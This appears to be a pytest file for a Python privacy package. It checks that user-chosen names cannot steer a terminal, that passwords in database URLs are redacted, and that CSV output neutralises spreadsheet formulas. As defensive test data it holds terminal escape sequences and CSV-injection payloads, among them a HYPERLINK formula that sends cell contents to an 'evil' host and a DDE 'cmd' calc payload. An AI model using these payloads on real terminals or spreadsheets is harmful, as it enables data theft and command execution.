"""Names that others chose steer no terminal, tell no password, start no formula, and are written in any encoding."""

from __future__ import annotations

import ast
import csv
import json
import os
import pickle
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from dataclasses import fields
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.csv as pa_csv
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.shown import commands
from tests.shown.canaries import everything_said
from tests.shown.commands import House, Names

import leeward as lw
from leeward._plain import echo, plain, plain_lines, reading_alike, without_passwords
from leeward.cli import LeewardError, shown
from leeward.errors import nearest, no_column
from leeward.tables._sheets import Writer, cell, harmless, write_frame, write_table

SOURCE = Path(lw.__file__).parent

OSC, CSI, C1, BIDI = "\x1b]0;owned\x07", "\x1b[2J\x1b[1;1H", "\x9b31m\x90\x9d", "\u202e\u2066\u200f"
EVIL = f"a{OSC}b{CSI}c{C1}d{BIDI}e\r\x08f\x7fg\u2028h"
STEERING = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]")
"""What steers a terminal, written anew: all controls but the line's end, marks of direction, halves of pairs."""

HOSTILE = Names(*(f"{name.name}{EVIL}" for name in fields(Names)))
FOREIGN = Names(*(f"{name.name} é ε 東京 ≤ 😀" for name in fields(Names)))


UNSEEN = "\u115f\u1160\u2800\u3164\uffa0"
"""Letters and signs that are drawn as nothing."""


# ---- the words themselves


@given(st.text())
def test_plain_text_steers_nothing_and_stays_readable(text: str) -> None:
    written = plain(text)
    assert not STEERING.search(written)
    assert "\n" not in written
    assert plain(written) == written
    assert unicodedata.is_normalized("NFC", written), "no two texts that are drawn alike"
    kept = [c for c in text if c == " " or (unicodedata.category(c)[0] in "LNPS" and c not in UNSEEN)]
    rest = iter(written)
    assert not unicodedata.is_normalized("NFC", text) or all(character in rest for character in kept), (
        "what is harmless is all there, in its order"
    )


def test_what_is_harmless_stays_as_it_is() -> None:
    for text in ("Kōen", "東京", "می\u200cخواهم", "👨\u200d👩\u200d👧", "a\\x1b", "naïve — “quoted”"):
        assert plain(text) == text
    assert plain_lines("one\ntwo\x1b") == "one\ntwo\\x1b"
    assert plain("\x1b") == "\\x1b"


TWINS = [
    ("Zürich", unicodedata.normalize("NFD", "Zürich")),
    ("서울", unicodedata.normalize("NFD", "서울")),
    ("Å", "\u212b"),
    ("\u1ed9", "o\u0302\u0323"),
    *(("two words", f"two{space}words") for space in "\xa0\u1680\u2002\u2009\u202f\u205f\u3000"),
    *(("town", f"to{sign}wn") for sign in f"{UNSEEN}\u034f\u200b\u200c\u200d\u2060\ufe00\ufe0f\u00ad\U000e0100"),
    ("東京", "東\ufe00京"),
    ("😀", "😀\ufe0e"),
]


@pytest.mark.parametrize(("one", "other"), TWINS, ids=[other.encode("unicode_escape").decode() for _, other in TWINS])
def test_names_that_are_drawn_alike_are_shown_differently_and_known_for_twins(one: str, other: str) -> None:
    assert plain(one) == one
    assert plain(other) != one
    assert reading_alike(one) == reading_alike(other)
    assert nearest(one, ["something", other]) == f"Did you mean '{other}'?"
    assert plain(other) in str(no_column(one, [other], in_first_line=True))


def test_names_that_differ_do_not_read_alike() -> None:
    names = ["town", "towns", "tovvn", "t own", "Zurich", "Zürich", "東京", "京東", "1", "2", "10", "1.0"]
    assert len({reading_alike(name) for name in names}) == len(names)
    for one, other in (("Town", "town"), ("ｔｏｗｎ", "town"), (" a  b\t", "A b"), ("ẞ", "ss"), ("ﬁn", "fin")):
        assert reading_alike(one) == reading_alike(other)


@given(st.text())
def test_reading_alike_is_one_form_for_every_form_of_a_text(text: str) -> None:
    form = reading_alike(text)
    assert reading_alike(form) == form
    for other in ("NFC", "NFD", "NFKC", "NFKD"):
        assert reading_alike(unicodedata.normalize(other, text)) == form


PASSWORDS = ["hunter2", "p@ss", "a/b", "a:b", "with space", "qu'ote", "ünï", "100%", "a#b?c", "x://y"]


@pytest.mark.parametrize(
    "scheme", ["postgresql", "postgresql+psycopg", "mysql", "https", "s3", "redis", "sqlite", "jdbc:x"]
)
@pytest.mark.parametrize("password", PASSWORDS)
def test_no_password_of_an_address_is_shown(scheme: str, password: str) -> None:
    secret = f"SECRET{password}SECRET"
    for address in (
        f"{scheme}://me:{secret}@host:5432/db",
        f"{scheme}://:{secret}@host/db",
        f"{scheme}://{secret}@host/db",
        f"The source '{scheme}://me:{secret}@host/db': it is refused",
        f"['{scheme}://a:{secret}@h', '{scheme}://b:{secret}@h']",
        f"{scheme} ://me:{secret}@host/db",
        f"{scheme}: //me:{secret}@host/db",
    ):
        assert "SECRET" not in without_passwords(address), address
        assert "SECRET" not in str(LeewardError(address, address, address))
        assert scheme in without_passwords(address)
    plain_secret = re.sub(r"\W", "", secret)
    for address in (f"{scheme}://h/db?user=me&password={plain_secret}&x=1", f"host=h password={plain_secret} dbname=d"):
        assert "SECRET" not in without_passwords(address)
    assert "SECRET" not in without_passwords(f"{scheme}://h/db?token={plain_secret}")


def test_what_is_no_password_is_shown() -> None:
    for text in (
        "see https://example.org/a?b=c",
        "sqlite:///budget.db",
        "someone@example.org",
        'secret = "people.key"',
    ):
        assert without_passwords(text) == text


def test_an_argument_is_told_by_its_kind_where_its_text_would_be_its_rows() -> None:
    frame = pd.DataFrame({"a": ["SECRET"]})
    for held in (
        frame,
        frame["a"],
        pa.table(frame),
        ["SECRET"],
        {"SECRET": 1},
        frame.to_numpy(),
        ("SECRET",),
        b"SECRET",
    ):
        assert "SECRET" not in echo(held)
    assert echo(frame) == "a DataFrame"
    assert echo(["x"]) == "a list"
    assert echo("x") == "'x'"
    assert echo(3) == "3"
    assert echo(lw.Geometric) == "the class Geometric"
    assert echo("y" * 1000) == f"'{'y' * 80}…'"
    assert echo(lw.AdditionOnly("1")) == repr(lw.AdditionOnly("1"))
    assert echo(Path("a\x1bb")) == "'a\\x1bb'"


# ---- the command


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> House:
    return commands.house(tmp_path_factory.mktemp("hostile"), HOSTILE)


@pytest.mark.sweep
def test_no_command_lets_a_name_steer_the_terminal(hostile: House) -> None:
    for name, words in hostile.commands.items():
        code, out, err = hostile.run(words)
        assert code == 0, (name, err)
        assert not STEERING.search(out + err), (name, STEERING.search(out + err))
    _, out, _ = hostile.run(hostile.commands["budget show"])
    assert "dataseta\\x1b]0;owned\\x07b" in re.sub(r"\s", "", out), "it is shown all the same"


def test_no_refusal_lets_a_name_steer_the_terminal(hostile: House) -> None:
    hostile.run(hostile.commands["release"])
    for name, words in commands.refused(hostile).items():
        code, out, err = hostile.run(words)
        assert code == 2, (name, out, err)
        assert not STEERING.search(out + err), (name, STEERING.search(out + err))
        assert err.startswith("leeward: "), (name, err)
        assert err.count("\n") == 1, (name, err)


def test_nothing_that_python_prints_lets_a_name_steer_the_terminal(tmp_path: Path) -> None:
    n = HOSTILE
    visits = pd.DataFrame({n.person: ["p"], n.place: [n.market], n.time: pd.Timestamp("2026-01-01T18:30")})
    asked = lw.visits(visits, person=n.person, place=n.place, time=n.time, keep={n.place: [n.market]})
    places = lw.places(pd.DataFrame({n.place: [n.market]}), place=n.place)
    query = lw.count_visitors(asked, places, start="2026-01-01T18:00", end="2026-01-01T19:00", places_per_person=1)
    budget = lw.Budget(tmp_path / "budget.db", dataset=n.dataset, cap="9", new=True)
    result = lw.release(lw.plan(query, lw.AdditionOnly("1"), lw.Decide(safe_at_most=2)), budget)
    statistic = lw.statistic(lw.records(visits, person="each row"), "histogram", by={n.place: [n.market]})
    numbers = lw.release(
        lw.plan(statistic, lw.UnboundedDP("1")), lw.Budget(budget.ledger, f"{n.dataset} 2", "9", new=True)
    )
    compared = lw.compare(query, lw.AdditionOnly("1"), lw.Decide(safe_at_most=2))
    adp = lw.ADP("1", policies=[~lw.has(n.market), lw.where(n.place, equals=n.market)])
    made = [
        asked,
        places,
        query,
        budget,
        result,
        statistic,
        numbers,
        compared,
        lw.recommend(compared),
        adp,
        lw.has(n.market),
    ]
    made += [
        lw.plan(query, lw.AdditionOnly("1"), lw.Decide(safe_at_most=2)),
        lw.plan(statistic, lw.UnboundedDP("1")),
    ]
    for one in made:
        for text in (repr(one), str(one), f"{one}"):
            assert not STEERING.search(text), type(one)


def test_the_search_for_what_steers_can_fail() -> None:
    for what in (OSC, CSI, C1, BIDI, "\r", "\x7f", "\u2028"):
        assert STEERING.search(f"a{what}b")
    assert not STEERING.search("a plain line\nand another: 東京 ≤ 😀")


def test_only_one_module_of_the_command_prints() -> None:
    for path in sorted((SOURCE / "cli").glob("*.py")):
        if path.name == "_output.py":
            continue
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                assert called not in {"print", "typer.echo", "typer.secho", "sys.stdout.write", "sys.stderr.write"}, (
                    path
                )
    printing = re.compile(r"^\s*(from rich|import rich)", re.MULTILINE)
    apart = [
        p.name
        for p in (SOURCE / "cli").glob("*.py")
        if printing.search(re.sub(r"if TYPE_CHECKING:(\n    .*|\n)+", "", p.read_text("utf-8")))
    ]
    assert apart == ["_output.py"]


# ---- passwords


def _refusal(use: Callable[[str], Any], url: str) -> LeewardError | None:
    try:
        use(url)
    except LeewardError as error:
        return error
    return None


def test_no_error_of_the_package_tells_a_password(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from leeward.engine import open_data, read_keys, read_places
    from leeward.ledger import Ledger
    from leeward.local import check_job
    from leeward.spec import check_spec

    monkeypatch.chdir(tmp_path)
    listed = lw.places(pd.DataFrame({"v": ["a"]}), place="v")
    window = {"start": "2026-01-01", "end": "2026-01-02"}

    def ask(source: Any) -> Any:
        query = lw.count_visitors(lw.visits(source, person="p", place="v", time="t"), listed, **window)
        with open_data(query, read_keys(query)):
            pass

    secret, refused = "hunter2", list[tuple[str, str, LeewardError]]()
    places = {
        "a table": ask,
        "several tables": lambda url: ask([url, url]),
        "the places": lambda url: read_places(lw.places(url, place="v")),
        "a ledger": Ledger,
        "a budget": lambda url: lw.Budget(url, "d", "1"),
        "a spec's table": lambda url: check_spec(
            {"data": {"visits": url, "person": url}, "protect": url}
        ),  # ill-formed
        "a job's table": lambda url: check_job(
            {
                "perturb": {"kind": "location"},
                "data": {"table": url, "latitude": "a", "longitude": "b"},
                "box": {"west": 139.3, "south": 35.3, "east": 140.2, "north": 36.1},
                "protect": {"within": "200 m", "factor": "2"},
            },
            folder=tmp_path,
        ).run(tmp_path / "o.parquet", lambda *_: None),
    }
    for name, use in places.items():
        for scheme in ("postgresql", "mysql+pymysql", "sqlite", "duckdb", "https", "snowflake", "x y"):
            for url in (f"{scheme}://me:{secret}@h:bad port/d", f"{scheme}://me:{secret}@h/d?password={secret}"):
                if (error := _refusal(use, url)) is not None:  # "x y:" starts no address: it may be a path
                    refused.append((name, url, error))
    assert len(refused) >= 60
    for name, url, error in refused:
        assert secret not in everything_said(error), (name, url)
        assert secret.encode() not in pickle.dumps(error)
    assert secret not in repr(lw.visits(f"mysql://me:{secret}@h/d", person="p", place="v", time="t"))


# ---- spreadsheets

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "-1\n=2",
    "'=1",
    "''+cmd",
    "'-1",
]
HARMLESS = ["market", "", " =1", "-1", "+81", "-.5e-3", "1e9", "a=b", "'s-Gravenhage", "'", "5-3", "é"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert cell(text) == f"'{text}"
    for kind in (pa.string(), pa.large_string(), pa.dictionary(pa.int32(), pa.string())):
        column = (
            pa.array([text, None, "market"]).cast(kind)
            if not pa.types.is_dictionary(kind)
            else pa.array([text, None, "market"]).dictionary_encode()
        )
        assert harmless(pa.table({text: column})).to_pydict() == {f"'{text}": [f"'{text}", None, "market"]}


def test_what_is_no_formula_is_written_as_it_is() -> None:
    for text in HARMLESS:
        assert cell(text) == text
    assert harmless(pa.table({"a": HARMLESS, "b": range(len(HARMLESS))})).to_pydict()["a"] == HARMLESS


def _csv_fields(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as lines:
        return [field for row in csv.reader(lines) for field in row]


def test_no_csv_of_ours_holds_a_formula(tmp_path: Path) -> None:
    formula = FORMULAS[0]
    made = commands.house(tmp_path, Names(*(formula.replace("/", "") + name.name for name in fields(Names))))
    for name, words in made.commands.items():
        if "csv" in name:
            code, _, err = made.run(words)
            assert code == 0, (name, err)
    result = _named_result(tmp_path, formula)
    result.to_csv(tmp_path / "answers.csv")
    assert result.to_pandas()["place"].tolist() == [formula], "in memory it stays what it is"
    written = [path for path in tmp_path.rglob("*.csv") if path.name not in {"visits.csv", "readings.csv"}]
    assert len(written) == 4
    for path in written:
        found = _csv_fields(path)
        assert any(text.startswith("'=") for text in found), path
        assert not any(text[:1] in tuple("=@\t\r") for text in found), path
    # the table to perturb held them, so the search can fail
    assert any(text.startswith("=") for text in _csv_fields(next(tmp_path.rglob("visits.csv"))))


def _named_result(folder: Path, place: str) -> lw.Release:
    visits = pd.DataFrame({"p": ["a"], "v": [place], "t": pd.Timestamp("2026-01-01T18:30")})
    query = lw.count_visitors(
        lw.visits(visits, person="p", place="v", time="t"),
        lw.places(pd.DataFrame({"v": [place]}), place="v"),
        start="2026-01-01T18:00",
        end="2026-01-01T19:00",
        places_per_person=1,
    )
    budget = lw.Budget(folder / "own.db", dataset="d", cap="9", new=True)
    return lw.release(lw.plan(query, lw.AdditionOnly("1"), lw.Decide(safe_at_most=2)), budget)


def test_csv_is_written_in_one_place(tmp_path: Path) -> None:
    writes = re.compile(r"csv\.writer|\.to_csv\(|\bwrite_csv\(|DictWriter")
    found = {path.name for path in SOURCE.rglob("*.py") if writes.search(path.read_text("utf-8"))}
    assert found == {"_sheets.py"}
    with (tmp_path / "a.csv").open("w", newline="", encoding="utf-8") as file:
        for row in (["=1", 2, None], ["-1", 0.5, "x"]):
            Writer(file).row(row)
    assert (tmp_path / "a.csv").read_text() == "'=1,2,\n-1,0.5,x\n"
    assert pa_csv.read_csv(tmp_path / "a.csv").num_rows == 1
    with (tmp_path / "b.csv").open("w", newline="", encoding="utf-8") as file:
        Writer(file).table(pa.table({"x": ["=1", "-1", None], "y": [2, None, 0], "z": [0.1, 0.5, None]}))
    assert (tmp_path / "b.csv").read_text() == "'=1,2,0.1\n-1,,0.5\n,0,\n"


SIGNS = [chr(code) for code in (*range(1, 128), 0x85, 0xA0, 0xE9, 0x2028, 0x2029, 0xFEFF, 0xFF1D, 0x1F600)]


def test_a_field_of_any_sign_is_one_field_to_every_reader(tmp_path: Path) -> None:
    """Every sign before, between, behind and alone, in the first, a middle and the last field; also before a formula."""
    texts = [
        form.format(sign)
        for sign in SIGNS
        for form in ("{}", "{}x", "x{}", "x{}y", "x{}=1+1", "{0}{0}", "x\r{}", "{}\n=1")
    ]
    rows = (
        [(text, "m", "l") for text in texts]
        + [("f", text, "l") for text in texts]
        + [("f", "m", text) for text in texts]
    )
    true = [["a", "b", "c"], *([cell(text) for text in row] for row in rows)]
    table = pa.table(dict(zip("abc", zip(*rows, strict=True), strict=True)))
    one, two, three, four = (tmp_path / f"{name}.csv" for name in ("one", "two", "three", "four"))
    with one.open("w", newline="", encoding="utf-8") as file:
        Writer(file).row("abc")
        Writer(file).table(table)
    with two.open("w", newline="", encoding="utf-8") as file:
        for each in ("abc", *rows):
            Writer(file).row(each)
    write_frame(table.to_pandas(), three)
    write_table(table, four)
    for path in (one, two, three, four):
        with path.open(newline="", encoding="utf-8") as file:
            assert list(csv.reader(file, strict=True)) == true, path
        asked = pa_csv.ReadOptions(column_names=["a", "b", "c"])
        parsed = pa_csv.ParseOptions(newlines_in_values=True)
        as_text = pa_csv.ConvertOptions(column_types=dict.fromkeys("abc", pa.string()), strings_can_be_null=False)
        read = pa_csv.read_csv(path, asked, parsed, as_text).to_pydict()
        assert [list(row) for row in zip(*read.values(), strict=True)] == true, path


# ---- encodings


@pytest.mark.sweep
@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252", "shift-jis", "utf-8", "utf-16-le"])
def test_every_command_writes_in_any_encoding(encoding: str, tmp_path: Path) -> None:
    made = commands.house(tmp_path, FOREIGN)
    for name, words in made.commands.items():
        code, out, err = made.run(words, encoding)
        assert code == 0, (name, err)
        if "--json" in words:
            said = json.loads(out)
            if name == "budget show --json":
                assert FOREIGN.dataset in {row["dataset"] for row in said["budgets"]}, "JSON is exact in every encoding"
    for name, words in commands.refused(made).items():
        code, out, err = made.run(words, encoding)
        assert code == 2, (name, out, err)
        assert err.startswith("leeward: "), (name, err)


def test_greek_letters_have_names_where_they_cannot_be_written(tmp_path: Path) -> None:
    made = commands.house(tmp_path)
    _, out, _ = made.run(made.commands["release --dry-run"], "ascii")
    assert "addition-only, epsilon = 1" in out
    assert "\\u" not in out, "every sign of our own sentences has letters"
    for name in (
        "plan",
        "plan --json",
        "perturb parquet --dry-run",
        "perturb csv readings --dry-run",
        "release a mean --dry-run",
    ):
        _, out, _ = made.run(made.commands[name], "ascii")
        assert "\\u" not in out or "--json" in name, name


PLACES = [
    {"LC_ALL": "C"},
    {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
    {"PYTHONIOENCODING": "ascii"},
    {"PYTHONIOENCODING": "latin-1:strict"},
    {"PYTHONIOENCODING": "cp1252"},
]


_ALL = """
import json, runpy, sys
for name, words in json.loads(sys.argv[1]).items():
    sys.argv[1:] = words
    try:
        runpy.run_module("leeward", run_name="__main__", alter_sys=True)
    except SystemExit as ended:
        if ended.code:
            sys.exit(f"{name}: {ended.code}")
"""
"""Commands one after the other, as by ``python -m leeward``: what takes longest, to load, is done once."""


@pytest.mark.sweep
@pytest.mark.parametrize("place", PLACES, ids=lambda place: " ".join(f"{k}={v}" for k, v in place.items()))
def test_the_installed_command_runs_in_any_locale(place: dict[str, str], tmp_path: Path) -> None:
    made = commands.house(tmp_path)
    kept = {
        key: value for key, value in os.environ.items() if not key.startswith(("LC_", "LANG", "PYTHONIO", "PYTHONUTF8"))
    }
    names = ("release --dry-run", "release", "plan", "perturb parquet --dry-run", "budget history", "--help")
    words = [sys.executable, "-c", _ALL, json.dumps({name: made.commands.get(name, [name]) for name in names})]
    run = subprocess.run(words, env=kept | place, cwd=tmp_path, capture_output=True, check=False)
    assert run.returncode == 0, run.stderr
    assert run.stdout.count(b"epsilon") + run.stdout.count("ε".encode()) >= 3, "they really ran"
    assert run.stdout.isascii() or place == {"LC_ALL": "C"} or "latin-1" in str(place) or "cp1252" in str(place)


def test_files_are_opened_in_an_encoding_that_is_named() -> None:
    """A spec, a statement and a mark are UTF-8 wherever they are read: none is opened in the encoding of the machine.

    What is opened in a ZIP archive is bytes.
    """
    not_files = ("os.", "gzip.", "archive.", "self.", "webbrowser.")
    for path in sorted(SOURCE.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if not isinstance(node, ast.Call):
                continue
            called = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            said = [ast.unparse(argument) for argument in node.args] + [k.arg or "" for k in node.keywords]
            binary = any(text.strip("'\"") in {"rb", "wb", "ab", "xb"} for text in said)
            if called in {"read_text", "write_text"}:
                assert "encoding" in said or any("utf" in text.casefold() for text in said), (
                    path.name,
                    ast.unparse(node),
                )
            if called == "open" and not ast.unparse(node.func).startswith(not_files):
                assert binary or "encoding" in said, (path.name, ast.unparse(node))


def test_shown_is_both() -> None:
    assert shown("x://u:p@h\x1b") == "x://***@h\\x1b"
